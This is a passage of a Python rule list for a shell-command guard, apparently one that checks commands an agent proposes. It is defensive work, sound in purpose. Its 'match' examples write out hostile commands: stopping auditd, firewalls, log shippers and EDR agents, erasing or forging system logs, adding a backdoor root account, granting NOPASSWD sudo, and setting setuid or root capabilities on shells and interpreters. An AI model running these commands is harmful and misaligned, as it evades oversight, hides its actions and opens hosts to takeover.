        "recovery": "Re-enable it (`sudo systemctl enable --now auditd`, `sudo auditctl -e 1`) and "
        "review the gap.",
        "match": {
            "cmd": (*_SERVICE_MANAGERS, *_WINDOWS_SERVICE_CONTROL),
            "words_any": ("stop", "disable", "mask", "kill", "unload", "bootout", "remove", "del", "down",
                          "disabled", *_RC_STOPS),
            "words_also": _AUDIT_UNITS,
        },
        "examples": {
            "match": ["sudo systemctl stop auditd && sudo systemctl disable auditd", "service rsyslog stop",
                      "sudo systemctl mask systemd-journald-audit.socket",
                      "sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.auditd.plist",
                      "sudo launchctl bootout system/com.apple.auditd",
                      # the same trail on the BSDs, illumos and Windows, by their own service managers
                      "doas rcctl stop pflogd", "sudo service auditd onestop", "rc-update del auditd default",
                      "svcadm disable svc:/system/auditd:default", "net stop eventlog"],
            "no_match": ["systemctl status auditd", "launchctl print system/com.apple.auditd",
                         "rcctl check pflogd", "service syslogd status", "rcctl enable pflogd",
                         "launchctl unload ~/Library/LaunchAgents/com.acme.devproxy.plist"],
        },
    },
    {
        "id": "sys.auditctl-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "disables kernel auditing or deletes its rules",
        "safer": "Leave audit rules to the security owner.",
        "recovery": "`sudo auditctl -e 1` and reload the rules (`augenrules --load`).",
        # a `never` rule on the task list with no filter exempts every process from auditing: off by
        # another name
        "match": {"cmd": ("auditctl",), "words_any": ("-e=0", "-D", "never,task", "task,never")},
        "examples": {
            "match": ["sudo auditctl -e 0", "auditctl -D", "sudo auditctl -a never,task"],
            "no_match": ["auditctl -l", "auditctl -s", "sudo auditctl -a always,exit -F arch=b64 -S execve"],
        },
    },
    {
        # the kernel's ring buffer holds what the kernel said since boot (module loads, segfaults, USB
        # devices); clearing it erases that record on the machine
        "id": "sys.kernel-log-cleared",
        "level": "destructive",
        "irreversible": True,
        "reason": "clears the kernel's message buffer (`dmesg -c`/`-C`): what the kernel logged since boot "
        "is erased",
        "safer": "Read it (`dmesg -T`), or save it first (`dmesg -T > /tmp/dmesg.txt`).",
        "recovery": "None for the buffer; the journal may keep a copy (`journalctl -k`).",
        "extends_generic": True,
        "match": {"cmd": ("dmesg",), "words_any": ("-c", "-C", "--clear", "--read-clear")},
        "examples": {"match": ["sudo dmesg -C", "sudo dmesg --read-clear"],
                     "no_match": ["sudo dmesg -T | tail", "dmesg --level=err,warn"]},
    },
    {
        "id": "sys.log-tamper",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes or empties system logs (erases the record of what happened)",
        "safer": "Let logrotate manage logs; `journalctl --vacuum-time=30d` for the journal.",
        "recovery": "Logs shipped to a central collector may still have the entries.",
        # tee writes what it reads, and a `>>` adds a command's output after what is there: the output
        # of a run kept as a log is a record made, not one erased (lines added to the system's own
        # trail are sys.log-trail-written; tee's overwrite of it is sys.log-tamper-tee)
        "match": {
            "cmd": ("*",),
            "not_cmd": ("tee", "truncate"),
            "targets": {"of": "changes", "under": _LOG_PLACES},
        },
        "examples": {
            "match": [
                "sudo rm -f /var/log/auth.log /var/log/syslog",
                "rm -f /var/log/audit/audit.log",
                "shred -u /var/log/wtmp",
                "cat /dev/null > /var/log/auth.log",
                "rm -f /var/log/nightly.log >> /var/log/cleanup.log",
            ],
            "no_match": ["tail -f /var/log/syslog", "truncate -s 0 logs/dev.log",
                         "bash deploy.sh | tee /var/log/deploy.log",
                         "/opt/etl/bin/export.sh >> /var/log/etl-export.log 2>&1"],
        },
    },
    {
        # truncate only empties: the system's own trail (auth, audit, login records) or every log at once
        # (a glob over /var/log, the audit or journal directory; every file a find matches, `{}`) emptied
        # is the record erased; one service's log is sys.app-log-emptied
        "id": "sys.log-tamper-truncate",
        "level": "forbidden",
        "irreversible": True,
        "reason": "empties the system's own logs (erases the record of what happened)",
        "safer": "Let logrotate manage logs; `journalctl --vacuum-time=30d` for the journal.",
        "recovery": "Logs shipped to a central collector may still have the entries.",
        "match": {"cmd": ("truncate",),
                  "targets": {"of": "changes", "under": _LOG_PLACES,
                              "name": (*_SYSTEM_TRAIL, "log", "audit", "journal", "{}")}},
        "examples": {"match": ["truncate -s 0 /var/log/auth.log", "sudo truncate -s0 /var/log/wtmp",
                               "sudo truncate -s 0 /var/log/*.log", "truncate -s 0 /var/log/audit/audit.log",
                               "sudo find /var/log -type f -exec truncate -s 0 {} +"],
                     "no_match": ["truncate -s 0 /var/log/nginx/access.log", "truncate -s 0 logs/dev.log"]},
    },
    {
        # one service's log emptied whole (an nginx access log, an app's log) discards what it held: costly
        # if that record was needed, a human decides; no entry is hidden among others that stay
        "id": "sys.app-log-emptied",
        "level": "destructive",
        "irreversible": True,
        "reason": "empties a service's log: what it recorded is gone",
        "safer": "Rotate instead (`logrotate -f /etc/logrotate.d/NAME`), which keeps the old log compressed.",
        "recovery": "Logs shipped to a central collector may still have the entries.",
        "match": {"cmd": ("truncate",), "targets": {"of": "changes", "under": _LOG_PLACES}},
        "examples": {"match": ["sudo truncate -s 0 /var/log/nginx/access.log",
                               "truncate -s 0 /var/log/asterisk/full",
                               "truncate --size 0 /var/log/postgresql/postgresql-16-main.log"],
                     "no_match": ["truncate -s 0 logs/dev.log", "truncate -s 1G /srv/disk.img"]},
    },
    {
        # a system log is believed because only the system writes it: lines an agent puts there (a
        # forged login, an entry that hides another) deceive whoever reads the record
        "id": "sys.log-trail-written",
        "level": "forbidden",
        "irreversible": True,
        "reason": "writes into a log the system itself keeps (auth, syslog, audit, login records): "
        "its record of what happened is no longer only what happened",
        "safer": "Write your own output to a log of its own (`>> /var/log/myjob.log`), or use `logger`.",
        "recovery": "Logs shipped to a central collector keep the entries as they were.",
        "match": {"cmd": ("*",), "not_cmd": ("tee",),
                  "targets": {"of": "redirects", "under": ("/var/log", "/var/audit", "/private/var/log"),
                              "name": _SYSTEM_TRAIL}},
        "examples": {"match": ["echo 'Accepted publickey for root' >> /var/log/auth.log",
                               "printf 'ok\\n' >> /var/log/secure"],
                     "no_match": ["./nightly.sh >> /var/log/nightly.log 2>&1", "tail -n 50 /var/log/syslog",
                                  "grep sshd /var/log/auth.log > /tmp/sshd.txt"]},
    },
    {
        "id": "sys.log-tamper-tee",
        "level": "forbidden",
        "irreversible": True,
        "reason": "overwrites a log the system itself keeps (auth, syslog, audit, login records) with "
        "other text: its record of what happened is replaced",
        "safer": "Write your own output to a log of its own (`tee -a /var/log/myjob.log`).",
        "recovery": "Logs shipped to a central collector may still have the entries.",
        "match": {"cmd": ("tee",), "words_none": ("-a", "--append"),
                  "targets": {"of": "writes", "under": ("/var/log", "/var/audit", "/private/var/log"),
                              "name": _SYSTEM_TRAIL}},
        "examples": {"match": ["cat /dev/null | tee /var/log/auth.log", "echo ok | sudo tee /var/log/wtmp"],
                     "no_match": ["bash deploy.sh | tee /var/log/deploy.log",
                                  "./run.sh 2>&1 | tee -a /var/log/run.log"]},
    },
    {
        "id": "sys.firewall-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "flushes or disables the host firewall: every port becomes reachable",
        "safer": "Add one narrow rule (`ufw allow from 10.0.0.0/8 to any port 5432`).",
        "recovery": "Re-enable and restore the rules (`ufw enable`, `iptables-restore < rules.v4`).",
        "match": {
            "cmd": NETFILTER_TOOLS,
            "flags_any": ("-F", "-X"),
            "flags_none": ("-L",),
        },
        "examples": {
            "match": ["sudo iptables -F", "iptables --flush", "iptables -t nat -F", "sudo ebtables -F",
                      "sudo arptables --flush", "sudo ip6tables-legacy -X"],
            "no_match": ["sudo iptables -L -n", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT"],
        },
    },
    {
        "id": "sys.firewall-accept-all",
        "level": "forbidden",
        "irreversible": True,
        "reason": "sets the firewall's default policy to accept everything",
        "safer": "Add one narrow rule instead.",
        "recovery": "`iptables -P INPUT DROP` and restore the saved rules.",
        "match": {"cmd": NETFILTER_TOOLS, "flags_any": ("-P",), "args_any": ("ACCEPT",)},
        "examples": {"match": ["iptables -P INPUT ACCEPT", "sudo iptables-nft --policy FORWARD ACCEPT",
                               "sudo ebtables -P INPUT ACCEPT"],
                     "no_match": ["iptables -P INPUT DROP", "iptables -A INPUT -p tcp -j ACCEPT"]},
    },
    {
        "id": "sys.firewall-disable",
        "level": "forbidden",
        "irreversible": True,
        "reason": "disables or resets the host firewall",
        "safer": "Add one narrow allow rule instead.",
        "recovery": "Re-enable it (`sudo ufw enable`) and restore the saved rules.",
        "match": {
            # (Proxmox VE's `pve-firewall stop` unloads the cluster firewall's rules on the node)
            "cmd": ("ufw", "nft", "pfctl", "netsh", "pve-firewall"),
            "words_any": ("disable", "reset", "flush", "-d", "off", "stop"),
        },
        "examples": {
            "match": ["sudo ufw disable", "nft flush ruleset", "pfctl -d", "ufw --force reset",
                      "pve-firewall stop"],
            "no_match": ["sudo ufw status", "sudo ufw allow 22/tcp", "nft list ruleset",
                         "pve-firewall status",
                         "pve-firewall compile"],
        },
    },
    {
        "id": "sys.firewall-service-stop",
        "level": "forbidden",
        "irreversible": True,
        "reason": "stops or disables the firewall service",
        "safer": "Add one narrow allow rule instead.",
        "recovery": "`sudo systemctl enable --now UNIT`.",
        "match": {
            "cmd": (*_SERVICE_MANAGERS, *_WINDOWS_SERVICE_CONTROL),
            "words_any": ("stop", "disable", "mask", "kill", "del", "down", "disabled", *_RC_STOPS),
            "words_also": _FIREWALL_UNITS,
        },
        "examples": {
            "match": ["sudo systemctl stop firewalld", "systemctl disable --now ufw", "service pf stop",
                      "sudo service ipfw onestop", "doas rcctl disable pf",
                      "svcadm disable svc:/network/ipfilter:default", "net stop mpssvc",
                      "sudo chkconfig iptables off", "sudo update-rc.d ufw disable",
                      "sc config MpsSvc start= disabled"],
            "no_match": ["systemctl disable nginx", "systemctl status firewalld", "service pf status",
                         "sudo service pf reload", "rcctl ls on", "net start mpssvc"],
        },
    },
    {
        "id": "sys.selinux-off",
        "level": "dangerous",
        "reason": "switches one AppArmor profile to complain mode or off",
        "safer": "Fix the denial with a targeted policy (`audit2allow`, a profile rule) instead.",
        "recovery": "`sudo aa-enforce PROFILE`.",
        "match": {
            "cmd": ("aa-disable", "aa-complain"),
        },
        "examples": {
            "match": ["sudo aa-complain /etc/apparmor.d/usr.sbin.nginx"],
            "no_match": ["aa-status", "sudo aa-enforce /etc/apparmor.d/usr.sbin.nginx"],
        },
    },
    {
        # a host's mandatory access control switched off as a whole is a security control disabled,
        # like its firewall: every confined service runs unconfined
        "id": "sys.mac-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "switches the host's mandatory access control off as a whole (SELinux permissive, every "
        "AppArmor profile unloaded): every confined service runs unconfined",
        "safer": "Fix the one denial with a targeted policy (`audit2allow`) instead.",
        "recovery": "`sudo setenforce 1` (or reload AppArmor: `sudo systemctl reload apparmor`).",
        "match": {
            "cmd": ("setenforce", "aa-teardown"),
            "no_sub": ("1", "enforcing"),
        },
        "examples": {
            "match": ["sudo setenforce 0", "setenforce permissive", "aa-teardown"],
            "no_match": ["setenforce 1", "getenforce", "sudo setenforce enforcing"],
        },
    },
    {
        # the macOS application firewall is the host firewall: unloading its daemon turns it off
        "id": "sys.macos-firewall-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "switches the macOS application firewall off: every listening program becomes reachable",
        "safer": "Allow the one application (`socketfilterfw --add APP --unblockapp APP`).",
        "recovery": "`sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate on`, or load "
        "the daemon again (`launchctl load -w …/com.apple.alf.agent.plist`).",
        "match": {
            "cmd": ("launchctl", "socketfilterfw", "defaults"),
            "words_any": ("unload", "bootout", "disable", "remove", "--setglobalstate",
                          "--setglobalstate=off", "write"),
            "words_also": ("*com.apple.alf*", "off", "--setglobalstate=off"),
            "words_none": ("on", "1", "2", "--setglobalstate=on"),
        },
        "examples": {
            "match": ["sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.alf.agent.plist",
                      "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off",
                      "sudo defaults write /Library/Preferences/com.apple.alf globalstate -int 0"],
            "no_match": ["launchctl unload ~/Library/LaunchAgents/com.acme.devproxy.plist",
                         "launchctl disable gui/501/com.acme.devproxy",
                         "/usr/libexec/ApplicationFirewall/socketfilterfw --getglobalstate",
                         "defaults read /Library/Preferences/com.apple.alf globalstate",
                         "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate on",
                         "defaults write com.apple.dock autohide -bool true"],
        },
    },
    {
        # the forwarder or agent that carries the host's logs and security events away, by any service
        # manager (systemd, SysV, launchd, the Windows service cmdlets and `sc`/`net`); a restart keeps it
        "id": "sys.log-shipping-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "stops or disables the agent that ships the host's logs and security events to the SIEM "
        "or log platform (a forwarder, a beat, Sysmon): what happens next on the host goes unseen",
        "safer": "Log shipping is changed by its owner; restart the agent (`systemctl restart`) if it "
        "misbehaves.",
        "recovery": "Start and enable it again, and tell the security team about the gap in the events.",
        "match": {"cmd": (*_SERVICE_MANAGERS, *_WINDOWS_SERVICE_CONTROL),
                  "words_any": ("stop", "disable", "mask", "kill", "bootout", "unload", "delete", "disabled"),
                  "words_also": _LOG_SHIPPERS},
        "examples": {
            "match": ["sudo systemctl disable --now winlogbeat",
                      "Set-Service -Name Sysmon64 -StartupType Disabled",
                      "sc config nxlog start= disabled", "net stop SplunkForwarder",
                      "sudo service datadog-agent stop"],
            "no_match": ["sudo systemctl restart filebeat", "systemctl status fluent-bit",
                         "sudo systemctl stop nginx", "sc query SplunkForwarder"],
        },
    },
    {
        # the SIEM's own command line: `splunk stop` on a forwarder stops its shipping, on an indexer the
        # search and alerting of every host it collects
        "id": "sys.siem-stop",
        "level": "forbidden",
        "irreversible": True,
        "reason": "stops or disables Splunk (a forwarder stops shipping the host's events; an indexer stops "
        "collecting, searching and alerting for every host)",
        "safer": "`splunk restart` if it misbehaves; stopping it is its owner's change.",
        "recovery": "`splunk start` (and `splunk enable boot-start`); tell the security team about the gap.",
        "match": {"cmd": ("splunk",), "sub": ("stop", "disable")},
        "examples": {"match": ["/opt/splunkforwarder/bin/splunk stop", "sudo splunk disable boot-start"],
                     "no_match": ["splunk restart", "splunk status", "splunk search 'index=main | head 5'"]},
    },
    {
        # `splunk clean eventdata` empties the indexes: every event collected, the SIEM's whole record
        "id": "sys.siem-events-erased",
        "level": "forbidden",
        "irreversible": True,
        "reason": "erases the events Splunk has indexed (`clean eventdata`/`clean all`): the collected "
        "record of every host it watches",
        "safer": "Let the index's retention (`frozenTimePeriodInSecs`) age events out; archive before "
        "removing.",
        "recovery": "Only from an index backup or a frozen archive, if one exists.",
        "match": {"cmd": ("splunk",), "sub": ("clean",), "words_any": ("eventdata", "all", "userdata")},
        "examples": {"match": ["splunk clean eventdata -f", "splunk clean all -f",
                               "splunk clean eventdata -index firewall -f"],
                     "no_match": ["splunk clean globaldata -f", "splunk list index"]},
    },
    {
        # a silence whose matcher matches every alert (`alertname=~".+"`) or a mute of every monitor:
        # nobody is paged for anything until it expires, an outage or an intrusion included
        "id": "sys.alerts-silenced-all",
        "level": "destructive",
        "reason": "silences or mutes every alert (a matcher that matches any name, or mute-all): nobody is "
        "paged for anything until it expires",
        "safer": "Silence the one alert or the one host under maintenance (`alertname=DiskFull "
        "instance=db-3`), for the window it needs.",
        "recovery": "Expire the silence (`amtool silence expire ID`) or unmute, and check what fired "
        "meanwhile.",
        "match": {"cmd": ("amtool", "curl", "http", "xh"),
                  "words_any": ("*=~.+", "*=~.[*]", "*=~^.[*]$", "*=~^.+$", "*=~'.+'", "*=~'.[*]'",
                                "*/mute_all", "*/mute_all[?]*", "*/muteall")},
        "examples": {"match": ["amtool silence add 'severity=~.*' --duration=24h --comment=quiet",
                               "curl -X POST https://api.datadoghq.com/api/v1/monitor/mute_all"],
                     "no_match": ["amtool silence add alertname=DiskFull instance=db-3 --duration=2h",
                                  "amtool silence query"]},
    },
    {
        # the same by PowerShell's service cmdlets, whose name says the act
        "id": "sys.log-shipping-off-cmdlet",
        "level": "forbidden",
        "irreversible": True,
        "reason": "stops the agent that ships the host's logs and security events to the SIEM or log "
        "platform (a forwarder, a beat, Sysmon): what happens next on the host goes unseen",
        "safer": "Log shipping is changed by its owner; `Restart-Service` it if it misbehaves.",
        "recovery": "`Start-Service NAME`, and tell the security team about the gap in the events.",
        "match": {"cmd": ("stop-service", "suspend-service", "spsv"), "words_any": _LOG_SHIPPERS},
        "examples": {"match": ["Stop-Service -Name Sysmon64 -Force", "Stop-Service winlogbeat"],
                     "no_match": ["Stop-Service -Name Spooler", "Get-Service SplunkForwarder"]},
    },
    {
        # the agent that watches the host for intrusions, on any OS and by any service manager: stopped,
        # whatever happens next goes unseen (what an intruder does first)
        "id": "sys.security-agent-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "stops, unloads or disables the host's endpoint security agent (EDR, anti-malware: "
        "CrowdStrike Falcon, SentinelOne, Defender for Endpoint, osquery…): the machine is unwatched",
        "safer": _AGENT_SAFER,
        "recovery": _AGENT_RECOVER,
        "match": {"cmd": (*_SERVICE_MANAGERS, *_WINDOWS_SERVICE_CONTROL),
                  "words_any": ("stop", "disable", "mask", "kill", "bootout", "unload", "remove", "delete",
                                "disabled", "config"),
                  "words_also": _SECURITY_AGENTS},
        "examples": {
            "match": ["sudo launchctl bootout system /Library/LaunchDaemons/com.crowdstrike.falcond.plist",
                      "sudo systemctl disable --now falcon-sensor", "sudo systemctl stop sentinelone",
                      "Set-Service -Name WinDefend -StartupType Disabled", "sc stop CSFalconService",
                      "sudo launchctl unload /Library/LaunchDaemons/com.sentinelone.sentineld.plist"],
            "no_match": ["sudo systemctl status falcon-sensor", "sudo systemctl restart falcon-sensor",
                         "sudo launchctl list", "sudo systemctl stop nginx",
                         "sudo launchctl bootstrap system "
                         "/Library/LaunchDaemons/com.crowdstrike.falcond.plist"],
        },
    },
    {
        # uninstalling the agent is switching it off for good: the same blindness as stopping it
        "id": "sys.security-agent-uninstall",
        "level": "forbidden",
        "irreversible": True,
        "reason": "uninstalls the host's endpoint security agent or audit daemon: the machine is unwatched "
        "and keeps no audit trail",
        "safer": _AGENT_SAFER,
        "recovery": "Reinstall it from the security team's package and tell them about the gap.",
        "match": {"cmd": ("apt", "apt-get", "yum", "dnf", "zypper", "apk", "pacman", "rpm", "dpkg", "snap",
                          "brew"),
                  "words_any": ("remove", "purge", "autoremove", "erase", "del", "uninstall", "rm", "-r",
                                "-e",
                                "-p", "-R", "-Rns", "-Rs", "--remove", "--purge", "--erase"),
                  "words_also": (*_SECURITY_AGENTS, "auditd", "audit")},
        "examples": {"match": ["sudo apt-get purge -y falcon-sensor", "sudo yum remove -y auditd",
                               "sudo dpkg -r sentinelagent", "sudo zypper rm wazuh-agent"],
                     "no_match": ["sudo apt-get install -y auditd", "sudo apt-get remove -y nginx",
                                  "apt-cache policy falcon-sensor"]},
    },
    {
        "id": "sys.security-agent-kill",
        "level": "forbidden",
        "irreversible": True,
        "reason": "kills or stops the host's endpoint security agent or audit daemon by name (EDR, "
        "anti-malware, auditd): the machine is unwatched",
        "safer": _AGENT_SAFER,
        "recovery": _AGENT_RECOVER,
        "match": {"cmd": ("pkill", "killall", "taskkill", "stop-process", "stop-service"),
                  "words_any": (*_SECURITY_AGENTS, "auditd", "kauditd")},
        "examples": {"match": ["sudo pkill -9 falcond", "taskkill /F /IM CSFalconService.exe",
                               "Stop-Service -Name WinDefend -Force",
                               "sudo killall -9 SentinelAgent", "sudo pkill auditd"],
                     "no_match": ["pkill -f 'uvicorn app:app'", "killall node"]},
    },
    {
        # Gatekeeper and System Integrity Protection are the platform's guards against unsigned code
        # and against changes to the system itself
        "id": "sys.macos-guard-off",
        "level": "forbidden",
        "irreversible": True,
        "reason": "switches off a macOS host security control (Gatekeeper or System Integrity Protection)",
        "safer": "Clear the quarantine flag of the one application (`xattr -d com.apple.quarantine APP`).",
        "recovery": "`sudo spctl --master-enable`; `csrutil enable` from the recovery system.",
        "match": {
            "cmd": ("spctl", "csrutil"),
            "words_any": ("--master-disable", "--global-disable", "disable"),
        },
        "examples": {
            "match": ["sudo spctl --master-disable", "csrutil disable", "sudo spctl --global-disable"],
            "no_match": ["spctl --status", "csrutil status", "spctl --assess -v /Applications/X.app"],
        },
    },
    {
        "id": "sys.firmware-flash",
        "level": "destructive",
        "irreversible": True,
        "reason": "writes or erases a flash chip's firmware through a programmer (a wrong image bricks the "
        "board)",
        "safer": "Read the chip first (`flashrom -p PROG -r backup.rom`) and verify the image was built "
        "for that board.",
        "recovery": "Write the backup image back with the same programmer.",
        "match": {"cmd": ("flashrom",), "flags_any": ("-w", "--write", "-E", "--erase")},
        "examples": {
            "match": ["flashrom -p ch341a_spi -w build/board.rom"],
            "no_match": ["flashrom -p ch341a_spi -r backup.rom", "flashrom --version"],
        },
    },
    {
        # `-p internal` is the machine's own chipset: the workstation's BIOS, not a target board
        "id": "sys.firmware-flash-host",
        "level": "forbidden",
        "irreversible": True,
        "reason": "rewrites or erases this machine's own BIOS/UEFI firmware (flashrom's internal "
        "programmer): a bad image leaves it unable to boot",
        "safer": "Flash the target board through an external programmer, never the workstation's chipset.",
        "recovery": "An external SPI programmer and a backup image; otherwise a new board.",
        "match": {"cmd": ("flashrom",), "flags_any": ("-w", "--write", "-E", "--erase"),
                  "words_any": ("-p=internal*", "--programmer=internal*")},
        "examples": {
            "match": ["sudo flashrom -p internal -w build/coreboot.rom",
                      "flashrom --programmer internal:laptop=force_I_want_a_brick -E"],
            "no_match": ["sudo flashrom -p internal -r backup.rom",
                         "flashrom -p ch341a_spi -w build/board.rom"],
        },
    },
    {
        # the SSH server's settings decide who may log in from the network: any edit is confirmed (turning
        # password logins off locks out whoever has no key; on, it lets guessing in)
        "id": "sys.sshd-config-change",
        "level": "dangerous",
        "reason": "edits the SSH server's configuration: who may log in from the network, and how",
        "safer": "Change it through configuration management, and keep a second session open to test it.",
        "recovery": "Restore the file from a backup and `sudo sshd -t && sudo systemctl reload sshd`.",
        "match": {"cmd": ("*",), "targets": {"of": "writes",
                                             "under": ("/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d")}},
        "examples": {"match": ["sudo sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' "
                               "/etc/ssh/sshd_config"],
                     "no_match": ["sudo sshd -t", "cat /etc/ssh/sshd_config"]},
    },
    {
        # root reachable from the network by password, or any account with none: the machine is open
        "id": "sys.sshd-root-login",
        "level": "forbidden",
        "irreversible": True,
        "reason": "opens the SSH server to root logins or to accounts with empty passwords",
        "safer": "Log in as a named user with a key and use sudo; leave PermitRootLogin at no or "
        "prohibit-password.",
        "recovery": "Set it back, reload sshd, and check auth logs for logins meanwhile.",
        "match": {"cmd": ("*",), "words_any": ("*permitrootlogin yes*", "*permitemptypasswords yes*"),
                  "targets": {"of": "writes",
                              "under": ("/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d")}},
        "examples": {"match": ["sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' "
                               "/etc/ssh/sshd_config"],
                     "no_match": ["sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' "
                                  "/etc/ssh/sshd_config"]},
    },
    {
        # what the package manager knows is installed lives only in its database: deleted, it can neither
        # upgrade nor remove anything, and the record is not rebuilt from the files on disk
        "id": "sys.package-database-deleted",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes the package manager's database (what is installed, at which version): the "
        "system's packages can no longer be upgraded, removed or verified",
        "safer": "Repair it with the package tools (`dpkg --configure -a`, `rpm --rebuilddb`); never delete "
        "it.",
        "recovery": "Restore it from its backup (`/var/backups/dpkg.status.*`) or a system backup.",
        "match": {"cmd": ("rm", "unlink", "shred"),
                  "targets": {"under": ("/var/lib/dpkg/status", "/var/lib/dpkg/info", "/var/lib/rpm",
                                        "/var/lib/pacman/local", "/lib/apk/db", "/var/db/pkg")}},
        "examples": {"match": ["sudo rm /var/lib/dpkg/status", "sudo rm -rf /var/lib/rpm",
                               "sudo rm -rf /var/lib/pacman/local"],
                     "no_match": ["sudo rm /var/lib/dpkg/lock-frontend", "sudo rm /var/lib/pacman/db.lck",
                                  "sudo rm -rf /var/cache/apt/archives/partial"]},
    },
    {
        "id": "sys.auth-file-write",
        "level": "forbidden",
        "irreversible": True,
        "reason": "edits account, sudo or login configuration (passwd, shadow, sudoers, PAM)",
        "safer": "Use the account tools (`useradd`, `visudo -f /etc/sudoers.d/NAME`) with review.",
        "recovery": "Restore the file from /etc/*.bak or a backup from a root console.",
        "match": {
            "cmd": ("*",),
            "targets": {
                "of": "writes",
                "under": (
                    "/etc/passwd",
                    "/etc/shadow",
                    "/etc/gshadow",
                    "/etc/group",
                    "/etc/sudoers",
                    "/etc/sudoers.d",
                    "/etc/pam.d",
                    "/etc/security",
                    "/etc/login.defs",
                    "/root/.ssh",
                ),
            },
        },
        "examples": {
            "match": [
                "echo 'agent ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers",
                "echo 'backdoor:x:0:0::/root:/bin/bash' | sudo tee -a /etc/passwd",
                "sudo sed -i '/^root:/d' /etc/passwd",
                'echo "" > /etc/shadow',
                "mv /etc/passwd /tmp/",
            ],
            "no_match": ["cat /etc/passwd", "getent passwd dev", "cp /etc/passwd /tmp/passwd.copy"],
        },
    },
    {
        "id": "sys.setuid",
        "level": "forbidden",
        "irreversible": True,
        "reason": "sets the set-uid/set-gid bit on a system binary: anyone can run it as root",
        "safer": "Grant a specific sudo rule instead.",
        "recovery": "`sudo chmod u-s,g-s FILE` and check for other set-uid files (`find / -perm -4000`).",
        "match": {
            "cmd": ("chmod",),
            # set-uid (alone or with set-gid); set-gid alone is judged below
            "args_any": _SETUID_MODES,
            "targets": {"region": ("system", "root", "unknown", "home", "home_data", "outside", "scratch")},
        },
        "examples": {
            "match": ["sudo chmod u+s /bin/bash", "chmod 4755 /tmp/sh", "chmod +s /usr/local/bin/x"],
            "no_match": ["chmod +x scripts/deploy.sh", "chmod 755 /usr/local/bin/tool",
                         "chmod g+s /srv/shared"],
        },
    },
    {
        # set with root's rights (`sudo chmod u+s`), the file may well be root's own (built or copied with
        # sudo, chowned to root): wherever it lives, whoever runs it may run it as root
        "id": "sys.setuid-as-root",
        "level": "forbidden",
        "irreversible": True,
        "reason": "sets the set-uid bit with root's rights: if the file is root's (made, copied or chowned "
        "with sudo), anyone who runs it runs it as root",
        "safer": "Grant the one command a sudo rule instead.",
        "recovery": "`sudo chmod u-s FILE` and check for other set-uid files (`find / -perm -4000`).",
        "match": {"cmd": ("chmod",), "privileged": True, "args_any": _SETUID_MODES},
        "examples": {"match": ["sudo chmod 4755 ./rootshell", "sudo chmod +s build/helper"],
                     "no_match": ["sudo chmod 755 build/helper", "chmod u+s build/helper"]},
    },
    {
        # without root's rights the bit can only be set on the user's own files: whoever runs the program
        # acts as this user (their keys, their files); system paths are sys.setuid's
        "id": "sys.setuid-own",
        "level": "destructive",
        "reason": "sets the set-uid bit on one of the user's own files: whoever runs it acts with this "
        "user's rights (their files and keys)",
        "safer": "Run it as yourself; a program that needs other rights gets a sudo rule.",
        "recovery": "`chmod u-s FILE`.",
        "match": {"cmd": ("chmod",), "args_any": _SETUID_MODES},
        "examples": {"match": ["chmod u+s build/tool"], "no_match": ["chmod +x build/tool",
                                                                     "chmod g+s shared/"]},
    },
    {
        # the container engine's socket is root on the host: opened to every user, every user is root
        "id": "sys.root-socket-opened",
        "level": "forbidden",
        "irreversible": True,
        "reason": "opens the container engine's socket (docker, containerd, podman) to every user: whoever "
        "can write to it can run a container that mounts / as root",
        "safer": "Add the one user to the engine's group (`usermod -aG docker USER`), or use rootless mode.",
        "recovery": "`sudo chmod 660 SOCKET` (owner root, group docker) and check who used it.",
        "match": {"cmd": ("chmod",),
                  "args_any": ("[0-7][0-7][2367]", "[0-7][0-7][0-7][2367]", "o+*w*", "a+*w*", "+w", "+rw",
                               "ugo+*w*", "a=rw*", "o=rw*"),
                  "words_also": ("*docker.sock", "*containerd.sock", "*podman.sock", "*crio.sock",
                                 "*cri-dockerd.sock")},
        "examples": {"match": ["sudo chmod 666 /var/run/docker.sock",
                               "sudo chmod a+rw /run/containerd/containerd.sock"],
                     "no_match": ["sudo chmod 660 /var/run/docker.sock", "ls -l /var/run/docker.sock"]},
    },
    {
        # a capability that is root by another name, given to a general-purpose program: whoever runs the
        # interpreter or shell can use it to become root (`python3 -c 'os.setuid(0)…'`)
        "id": "sys.root-capability-interpreter",
        "level": "forbidden",
        "irreversible": True,
        "reason": "gives an interpreter, shell or general tool a capability that is root by another name "
        "(cap_setuid, cap_sys_admin, cap_dac_override …): anyone who runs it can become root",
        "safer": "Give the one program that needs it the narrowest capability (`cap_net_bind_service`).",
        "recovery": "`sudo setcap -r FILE` and audit the others (`getcap -r / 2>/dev/null`).",
        "extends_generic": True,
        "match": {"cmd": ("setcap",),
                  "words_any": ("*cap_setuid*", "*cap_setgid*", "*cap_sys_admin*", "*cap_dac_override*",
                                "*cap_dac_read_search*", "*cap_sys_module*", "*cap_sys_ptrace*",
                                    "*cap_fowner*",
                                "*cap_chown*", "all=*", "=ep"),
                  "words_also": ("*/python*", "*/perl*", "*/ruby*", "*/node", "*/nodejs", "*/php*", "*/bash",
                                 "*/sh", "*/dash", "*/zsh", "*/vim*", "*/vi", "*/find", "*/tar", "*/gdb",
                                 "*/env", "*/busybox", "*/lua*", "*/awk", "*/gawk", "*/cp", "*/rsync")},
        "examples": {"match": ["sudo setcap cap_setuid+ep /usr/bin/python3.11",
                               "sudo setcap cap_sys_admin+ep /usr/bin/python3"],
                     "no_match": ["sudo setcap cap_net_bind_service=+ep /usr/bin/node",
